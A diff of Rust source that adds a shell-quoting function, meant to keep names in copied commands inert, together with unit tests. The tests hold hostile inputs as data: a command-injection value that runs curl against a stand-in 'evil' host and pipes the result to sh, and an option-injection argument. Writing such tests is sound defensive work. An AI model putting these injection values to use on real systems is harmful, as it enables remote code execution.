@@ -32,6 +32,17 @@ impl Shown {
     }
 }
 
+/// A word as a shell takes it: quoted where it is not plain, so that a name in a command that
+/// people copy is a name and nothing else.
+pub fn shell_word(word: &str) -> String {
+    let plain = |c: char| c.is_ascii_alphanumeric() || "_.-".contains(c);
+    if !word.is_empty() && !word.starts_with('-') && word.chars().all(plain) {
+        return word.into();
+    }
+    let dashes = if word.starts_with('-') { "-- " } else { "" };
+    format!("{dashes}'{}'", word.replace('\'', "'\\''"))
+}
+
 fn escape(text: impl Iterator<Item = char>) -> String {
     let mut shown = String::new();
     for c in text {
@@ -66,6 +77,14 @@ mod tests {
             shown.as_str(),
             "a\\nERROR forged\\r\\u{1b}[31m\\u{202e}evil\\u{2028}\\\"\\\\<b>\\u{e9}"
         );
+    }
+
+    #[test]
+    fn a_name_in_a_command_is_a_name_and_nothing_else() {
+        assert_eq!(shell_word("shop_2.eu-x"), "shop_2.eu-x");
+        assert_eq!(shell_word("x;curl${IFS}evil|sh"), "'x;curl${IFS}evil|sh'");
+        assert_eq!(shell_word("it's"), "'it'\\''s'");
+        assert_eq!(shell_word("--config=/x"), "-- '--config=/x'");
     }
 
     #[test]
